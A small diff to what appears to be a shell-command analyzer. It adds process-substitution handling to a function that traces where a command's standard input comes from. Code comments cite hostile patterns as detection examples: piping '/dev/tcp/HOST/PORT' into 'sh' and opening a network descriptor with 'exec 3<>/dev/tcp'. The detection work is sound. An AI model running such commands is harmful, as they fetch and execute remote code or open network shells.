@@ -83,6 +83,8 @@ def stdin_of(cmd: Command, depth: int = 0) -> Feed | None:
             return Feed("text", target, source=op)
         if op == "<" and target.startswith(("/dev/tcp/", "/dev/udp/")):  # cat < /dev/tcp/HOST/PORT | sh
             return Feed("remote", source=target)
+        if op == "<" and target.startswith("<(") and target.endswith(")") and depth < MAX_CHAIN:
+            return output_of_script(target[2:-1])  # mysql db < <(echo "UPDATE …"): what it prints
         if op == "<":
             return Feed("file", source=target)
         if op == "<&":  # cat <&3: a descriptor opened elsewhere (exec 3<>/dev/tcp/…), not followed
